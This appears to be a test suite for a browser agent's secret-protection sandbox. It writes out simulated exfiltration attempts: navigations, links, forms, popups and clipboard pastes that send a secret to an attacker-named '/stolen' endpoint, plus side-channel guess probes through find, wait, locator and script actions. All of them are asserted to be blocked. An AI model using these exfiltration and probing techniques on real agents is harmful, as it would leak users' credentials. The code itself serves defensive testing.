import { launchChromium } from "@tabwright/agent-fixtures"
import { assert, layer } from "@effect/vitest"
import * as Context from "effect/Context"
import * as Effect from "effect/Effect"
import * as Layer from "effect/Layer"
import * as Redacted from "effect/Redacted"
import type { Action, ActionResult } from "../../src/action/Action.ts"
import { makeSecrets } from "../../src/action/Secrets.ts"
import { connectAgentBrowser } from "../../src/browser/PlaywrightBrowser.ts"
import type { AgentBrowser, AgentError } from "../../src/loop/AgentBrowser.ts"
import { serveSite, type Site } from "../fixture/Site.ts"
import { echoPage, guesses, innerPage, type Oracle, oracles, secret } from "./Oracles.ts"

/** An agent with a secret of the site, whose pages repeat it. The same server under another name is the attacker. */
class Target extends Context.Service<
  Target,
  {
    readonly agent: AgentBrowser
    readonly site: Site
    readonly files: Map<string, Uint8Array>
    readonly act: (action: Action) => Effect.Effect<ActionResult, AgentError>
  }
>()("@tabwright/agent/test/secret/Target") {
  static readonly layer = Layer.effect(
    Target,
    Effect.gen(function* () {
      const chromium = yield* launchChromium
      const inPath = `/at/${encodeURIComponent(secret)}`
      const site = yield* serveSite({
        "/echo": echoPage,
        "/inner": innerPage,
        [inPath]: `<p>Here</p>`,
        "/login": `<form method="post" action="/home"><label>User <input name="user"></label>
          <label>Password <input type="password" name="password"></label><button>Sign in</button></form>`,
        "/home": `<h1>Welcome</h1><label>Search <input id="search"></label><button>Sign out</button>`,
        "/stolen": (_, response) => void response.end("thank you"),
        "/attack": `<p>Paste here</p><input id="paste">`,
        "/leave": (request, response) => {
          const target = `http://localhost:${new URL(`http://${request.headers.host}`).port}/stolen`
          response.writeHead(200, { "content-type": "text/html" }).end(`<p>${secret}</p>
            <a id="link" href="${target}">Link</a><a id="blank" href="${target}" target="_blank">Blank</a>
            <form method="post" action="${target}"><input name="pin" value="${secret}"><button id="send">Send</button></form>
            <button id="open" onclick="window.open('${target}')">Open</button>`)
        },
        "/file": (_, response) => {
          const name = `filename*=UTF-8''${encodeURIComponent(`${secret}.txt`)}`
          response
            .writeHead(200, { "content-type": "text/plain", "content-disposition": `attachment; ${name}` })
            .end(secret)
        },
      })
      const files = new Map<string, Uint8Array>()
      const agent = yield* connectAgentBrowser({
        cdpUrl: chromium.cdpUrl,
        files: {
          write: ({ name, bytes }) => Effect.sync(() => (files.set(name, bytes), { name })),
          read: (name) => Effect.sync(() => files.get(name)),
          list: Effect.sync(() => [...files.keys()]),
        },
        downloads: chromium.downloads,
        secrets: makeSecrets([{ name: "pin", value: Redacted.make(secret), domains: [new URL(site.url).host] }]),
        canEvaluate: true,
        timeouts: { quietMs: 30, actionMs: 2_000 },
      })
      const act = (action: Action) => agent.execute(action, 0, () => Effect.void)
      return Target.of({ agent, site, files, act })
    }),
  )
}

const run = (code: string) => Effect.flatMap(Target, ({ act }) => act({ run: { code } }))

const returned = ({ data, message, ok }: ActionResult): unknown => {
  const json = typeof data === "string" ? /^returned: (.*)$/m.exec(data)?.[1] : undefined
  assert.strictEqual(ok, true, `${message}\n${typeof data === "string" ? data : ""}`)
  return json === undefined ? undefined : JSON.parse(json)
}

/** Removes the guess and the random names of fences from a response. */
const withoutGuess = (answer: unknown, guess: string): string =>
  JSON.stringify(answer)
    .replaceAll(guess, "GUESS")
    .replaceAll(/[0-9a-f]{8}-[0-9a-f]{4}/g, "FENCE")

const forms = [secret, secret.toUpperCase(), encodeURIComponent(secret), "4711+e8", btoa(secret).slice(0, 20)]

const queryScript = ({ ask, isChanging = false, path = "/echo" }: Oracle, url: string): string => `
  {
    const told = async (guess) => {
      ${isChanging ? "await page.goto('about:blank').catch(() => {})" : ""}
      if (${isChanging} || page.url() !== shown(${JSON.stringify(url + path)})) await page.goto(${JSON.stringify(url + path)})
      try { return ["gave", (await (async () => { ${ask} })()) ?? null] }
      catch (error) { return ["failed", error.name, error.reason, error.message] }
    }
    const answers = [await told(${JSON.stringify(guesses.right)}), await told(${JSON.stringify(guesses.wrong)})]
    for (const answer of [...answers]) await page.goto(stolen + encodeURIComponent(JSON.stringify(answer))).then(() => answers.push("left"), () => {})
    all.push(answers)
  }`

const batchSize = 12
const batches = new Map<number, ReadonlyArray<ReadonlyArray<unknown>>>()

/** Responses of a script to both guesses. Several oracles share a script: starting one is slow. */
const answersTo = Effect.fnUntraced(function* (index: number) {
  const batch = Math.floor(index / batchSize)
  const { site } = yield* Target
  let answers = batches.get(batch)
  if (answers === undefined) {
    const some = oracles.slice(batch * batchSize, (batch + 1) * batchSize)
    const result = yield* run(`
      const all = []
      const stolen = ${JSON.stringify(`${site.otherUrl}/stolen?`)}
      const shown = (url) => url.replaceAll(${JSON.stringify(encodeURIComponent(secret))}, "***")
      ${some.map((oracle) => queryScript(oracle, site.url)).join("\n")}
      await agent.files.write("answers.json", all)`)
    assert.strictEqual(result.ok, true, result.message)
    const { files } = yield* Target
    const read: ReadonlyArray<ReadonlyArray<unknown>> = JSON.parse(new TextDecoder().decode(files.get("answers.json")))
    answers = read
    batches.set(batch, answers)
  }
  return answers[index % batchSize] ?? []
})

const resultOf = Effect.fnUntraced(function* (action: Action) {
  const { agent, act } = yield* Target
  const { data, evidence, message, ok, valueRead } = yield* act(action)
  return { data, evidence, message, ok, valueRead, page: (yield* agent.observe).scroll.top }
})

/** Tries every fourth batch of oracles, or all of them in long tests. */
const share = process.env["TABWRIGHT_LONG_TESTS"] === "1" ? 1 : 8

layer(Target.layer, { excludeTestServices: true })("a page that shows a secret", (it) => {
  const open = Effect.fnUntraced(function* (path: string) {
    const { agent, act, site } = yield* Target
    yield* act({ navigate: { url: site.url + path } })
    return yield* agent.observe
  })

  it.effect("can be opened without exposing the secret, and until then any site may be opened", () =>
    Effect.gen(function* () {
      const { agent, act, site } = yield* Target
      yield* open("/login")
      const el = (name: string) =>
        Effect.map(
          agent.observe,
          ({ elements }) => elements.find((one) => one.label === name || one.name === name)?.index ?? -1,
        )
      const filled = yield* act({ fill: { el: yield* el("Password"), text: "<secret>pin</secret>" } })
      assert.strictEqual(filled.ok, true, filled.message)
      assert.strictEqual(filled.valueRead, "***")
      yield* act({ fill: { el: yield* el("User"), text: "zoe" } })
      const signedIn = yield* act({ click: { el: yield* el("Sign in") } })
      assert.strictEqual(signedIn.urlAfter, `${site.url}/home`, signedIn.message)
      // A login that repeats nothing does not restrict navigation.
      const away = yield* act({ navigate: { url: `${site.otherUrl}/attack` } })
      assert.strictEqual(away.ok, true, away.message)
      assert.deepStrictEqual(
        returned(
          yield* run(`
            await page.goto(${JSON.stringify(`${site.url}/login`)})
            await page.getByLabel("User").fill("zoe")
            await page.getByLabel("Password").fill(agent.secret("pin"))
            await page.getByRole("button", { name: "Sign in" }).click()
            await page.waitForURL("**/home")
            const heading = await page.getByRole("heading").innerText()
            await page.goto(${JSON.stringify(`${site.otherUrl}/attack`)})
            return [heading, await page.innerText("p"), await page.evaluate(() => document.querySelectorAll("input").length)]
          `),
        ),
        ["Welcome", "Paste here", 1],
      )
    }),
  )

  for (const [index, { name }] of oracles.entries()) {
    if (Math.floor(index / batchSize) % share !== 0) continue
    it.effect(`returns the same for a right and a wrong guess in code mode: ${name}`, () =>
      Effect.gen(function* () {
        const { site } = yield* Target
        const answers = yield* answersTo(index)
        const [right, wrong, ...left] = answers
        assert.strictEqual(withoutGuess(right, guesses.right), withoutGuess(wrong, guesses.wrong))
        assert.deepStrictEqual(left, [])
        const told = JSON.stringify(answers)
        for (const form of forms) assert.notInclude(told, form)
        assert.notInclude(site.requests.join("\n"), "/stolen")
      }),
    )
  }

  const steps: Readonly<Record<string, (guess: string) => Action>> = {
    "find with words": (guess) => ({ find: { text: guess } }),
    "find with a pattern": (guess) => ({ find: { text: `^.{0,40}${guess}`, regex: true } }),
    "find with an attribute selector": (guess) => ({ find: { css: `[title^="${guess}"]` } }),
    "find with a selector and words": (guess) => ({ find: { css: "p", text: guess } }),
    "find with a selector and a pattern": (guess) => ({ find: { css: "p", text: `^${guess}`, regex: true } }),
    "find that scrolls": (guess) => ({ find: { text: guess, show: true } }),
    "find of attributes": (guess) => ({ find: { css: "p", text: guess, attrs: ["title", "data-pin"] } }),
    "waiting for a text": (guess) => ({ wait: { text: guess, seconds: 0 } }),
    "waiting for a text to go": (guess) => ({ wait: { textGone: guess, seconds: 0 } }),
    "extracting by label": (guess) => ({ extract: { kind: "text", query: guess } }),
    "extracting a list": (guess) => ({ extract: { kind: "list", query: guess } }),
    "evaluating a script": (guess) => ({ evaluate: { js: `document.body.innerText.includes("${guess}")` } }),
    "a fragment that finds text": (guess) => ({ navigate: { url: `#:~:text=${guess},coal` } }),
  }
  for (const [name, action] of Object.entries(steps))
    it.effect(`returns the same for a right and a wrong guess in step mode: ${name}`, () =>
      Effect.gen(function* () {
        yield* open("/echo")
        const right = yield* resultOf(action(guesses.right))
        yield* open("/echo")
        const wrong = yield* resultOf(action(guesses.wrong))
        assert.strictEqual(withoutGuess(right, guesses.right), withoutGuess(wrong, guesses.wrong))
      }),
    )

  it.effect("reveals no form of it in observations, readings and files", () =>
    Effect.gen(function* () {
      const { act, files } = yield* Target
      const seen = [JSON.stringify(yield* open("/echo"))]
      for (const kind of ["text", "page", "links", "list", "title", "url"] as const)
        seen.push(JSON.stringify(yield* act({ extract: { kind } })))
      for (const format of ["text", "markdown", "links"] as const)
        seen.push(JSON.stringify(yield* act({ readPage: { format } })))
      seen.push(JSON.stringify([...files.keys()]))
      for (const text of seen) {
        for (const form of forms) assert.notInclude(text, form)
        // Letter by letter.
        assert.notMatch(text.replace(/[^a-z]/g, ""), /kestrel/)
      }
    }),
  )

  it.effect("reveals nothing to the locators of a recipe", () =>
    Effect.gen(function* () {
      const { agent } = yield* Target
      yield* open("/echo")
      const { locate = () => Effect.succeed({}) } = agent
      const located = (guess: string) =>
        Effect.forEach(
          [
            { locator: `internal:text="${guess}"i >> nth=0`, css: "" },
            { locator: `internal:role=button[name=/^${guess}/] >> nth=0`, css: "" },
            { locator: `internal:label="${guess}"i`, css: "" },
            { locator: `p[title^="${guess}"]`, css: "" },
            { locator: `xpath=//p[starts-with(@title, "${guess}")]`, css: "" },
            { locator: `iframe >> internal:control=enter-frame >> internal:text="${guess}"i`, css: "" },
            { locator: "", css: `input[placeholder^="${guess}"]` },
            { locator: "", css: `input[value^="${guess}"]` },
          ],
          (where) => locate({ ...where, frames: [] }),
        )
      assert.deepStrictEqual(yield* located(guesses.right), yield* located(guesses.wrong))
    }),
  )

  it.effect("reveals nothing to a query that waits while the page changes", () =>
    Effect.gen(function* () {
      const { site } = yield* Target
      const waiting = (guess: string) =>
        run(`
          await page.goto(${JSON.stringify(`${site.url}/login`)})
          const end = (what) => what.then(() => "found", (error) => error.reason)
          const all = [
            end(page.getByText(new RegExp("^${guess}")).first().waitFor({ timeout: 1500 })),
            end(page.locator("[title^=${guess}]").first().waitFor({ timeout: 1500 })),
            end(page.locator("//p[starts-with(., '${guess}')]").first().waitFor({ timeout: 1500 })),
            end(page.frameLocator("#frame").getByText("${guess}").waitFor({ timeout: 1500 })),
            end(page.waitForFunction((guess) => document.title.includes(guess), "${guess}", { timeout: 1500 })),
            end(page.waitForURL(/${guess}/, { timeout: 1500 })),
          ]
          await page.goto(${JSON.stringify(`${site.url}/echo`)})
          return Promise.all(all)`)
      const right = returned(yield* waiting(guesses.right))
      assert.deepStrictEqual(right, returned(yield* waiting(guesses.wrong)))
      assert.notInclude(JSON.stringify(right), "found")
    }),
  )

  it.effect(
    "can be used: clicked by role, filled in, read without the secret and left for another page of its site",
    () =>
      Effect.gen(function* () {
        const { site } = yield* Target
        const worked = yield* run(`
        await page.goto(${JSON.stringify(`${site.url}/echo`)})
        await page.getByRole("button", { name: "Continue" }).click()
        await page.getByText("clicked").waitFor()
        await page.fill("#labelled", "next")
        const read = [await page.innerText("#text"), await page.inputValue("#labelled"), await page.getByRole("heading").innerText()]
        const byText = await page.getByText("***").count()
        await page.locator("xpath=//h1").click()
        await page.goto(${JSON.stringify(`${site.url}/home`)})
        await page.getByLabel("Search").fill("lamp")
        await page.locator("xpath=//button[contains(., 'Sign')]").click()
        return [...read, byText > 0, await page.inputValue("#search"), (await page.locator("h1").boundingBox()).width > 0]`)
        assert.deepStrictEqual(returned(worked), ["***", "next", "Account", true, "lamp", true])
      }),
  )

  it.effect("cannot be left for another site by URL, link, form, popup or new tab", () =>
    Effect.gen(function* () {
      const { act, agent, site } = yield* Target
      for (const id of ["link", "blank", "send", "open"]) {
        const seen = yield* open("/leave")
        const el = seen.elements.find((one) => one.id === id)?.index ?? -1
        const clicked = yield* act({ click: { el } })
        assert.include(JSON.stringify(clicked), 'showed the secret \\"pin\\"', id)
      }
      for (const action of [
        { navigate: { url: `${site.otherUrl}/stolen?bit` } },
        { tab: { op: "new", url: `${site.otherUrl}/stolen?bit` } },
      ] as const) {
        const result = yield* act(action)
        assert.strictEqual(result.ok, false)
        assert.include(result.message, "only pages of")
      }
      yield* act({ tab: { op: "list" } })
      assert.notInclude(site.requests.join("\n"), "/stolen")
      // A human may allow it if the run can ask.
      yield* agent.allowHost?.(new URL(site.otherUrl).host) ?? Effect.void
      assert.strictEqual((yield* act({ navigate: { url: `${site.otherUrl}/attack` } })).ok, true)
    }),
  )

  it.effect("leaks nothing through the clipboard, and pastes nothing on other sites", () =>
    Effect.gen(function* () {
      const { act, site } = yield* Target
      yield* open("/echo")
      for (const keys of ["Control+a Control+c", "Control+X", "Control+Insert", "Shift+Delete", "Meta+c"])
        assert.match((yield* act({ press: { keys } })).message, /Copying is blocked/, keys)
      const copied = yield* run(`
        const tries = [() => page.press("#filled", "Control+c"), () => page.keyboard.press("ControlOrMeta+KeyC")]
        const told = []
        for (const one of tries) await one().then(() => told.push("done"), (error) => told.push(error.reason))
        await page.goto(${JSON.stringify(`${site.otherUrl}/attack`)})
        for (const keys of ["Control+v", "Shift+Insert", "Control+Shift+V"]) await page.press("#paste", keys).then(() => told.push("done"), (error) => told.push(error.reason))
        return [...told, await page.inputValue("#paste")]`)
      assert.deepStrictEqual(returned(copied), ["Refused", "Refused", "Refused", "Refused", "Refused", ""])
      // Text copied elsewhere afterwards can be pasted.
      const own = yield* run(`
        await page.fill("#paste", "own words")
        await page.press("#paste", "Control+a")
        await page.press("#paste", "Control+c")
        await page.fill("#paste", "")
        await page.press("#paste", "Control+v")
        return page.inputValue("#paste")`)
      assert.strictEqual(returned(own), "own words")
    }),
  )
})
